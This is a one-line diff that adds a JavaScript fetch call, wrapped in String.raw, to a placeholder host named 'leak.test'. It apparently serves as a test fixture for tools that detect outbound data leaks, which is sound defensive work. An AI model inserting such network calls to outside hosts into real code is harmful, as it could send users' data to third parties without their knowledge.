@@ -1,0 +1,1 @@
+fetch(String.raw`https://js-fold-string-raw.leak.test/`)
